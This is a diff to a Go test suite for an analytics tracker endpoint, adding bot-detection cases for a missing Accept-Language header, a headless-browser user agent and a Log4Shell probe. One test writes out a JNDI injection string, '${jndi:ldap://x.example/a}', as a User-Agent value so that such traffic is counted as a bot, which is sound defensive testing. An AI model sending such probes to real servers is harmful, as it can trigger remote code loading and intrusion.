@@ -19,6 +19,7 @@ func postE(t *testing.T, h *harness, body string, header ...string) *http.Respon
 	req, _ := http.NewRequest(http.MethodPost, h.srv.URL+"/e", strings.NewReader(body))
 	req.Header.Set("Content-Type", "text/plain;charset=UTF-8")
 	req.Header.Set("User-Agent", chromeUA)
+	req.Header.Set("Accept-Language", "en-GB,en;q=0.9")
 	for i := 0; i < len(header); i += 2 {
 		req.Header.Set(header[i], header[i+1])
 	}
@@ -57,6 +58,10 @@ func TestTrackerEndpoint(t *testing.T) {
 		{"revenue with too many decimals", `{"site_id":"` + site + `","event_name":"P","url":"https://example.com/","revenue":{"amount":1.5,"currency":"JPY"}}`, nil, 400},
 		{"too many props", `{"site_id":"` + site + `","event_name":"P","url":"https://example.com/","props":{"a":1,"b":1,"c":1,"d":1,"e":1,"f":1,"g":1,"h":1,"i":1,"j":1,"k":1}}`, nil, 400},
 		{"no user agent: counted as a bot", body("https://example.com/bot", ""), []string{"User-Agent", ""}, 202},
+		{"no Accept-Language: counted as a bot", body("https://example.com/bot", ""), []string{"Accept-Language", ""}, 202},
+		{"a headless browser: counted as automation", body("https://example.com/bot", ""),
+			[]string{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36"}, 202},
+		{"a Log4Shell probe: counted as other", body("https://example.com/bot", ""), []string{"User-Agent", "${jndi:ldap://x.example/a}"}, 202},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -73,7 +78,8 @@ func TestTrackerEndpoint(t *testing.T) {
 	if n := h.count("SELECT count() FROM events WHERE name = 'Purchase' AND revenue_amount = 4999 AND revenue_currency = 'EUR' AND has(props_keys, 'plan')"); n != 1 {
 		t.Error("the revenue event is not stored with 4999 EUR cents and its props")
 	}
-	h.waitCount(1, "SELECT count() FROM bot_events WHERE reason = 'no_user_agent'")
+	h.waitCount(3, "SELECT count() FROM bot_events WHERE reason = 'other'")
+	h.waitCount(1, "SELECT count() FROM bot_events WHERE reason = 'automation'")
 }
 
 func TestTrackerPreflightAndScript(t *testing.T) {
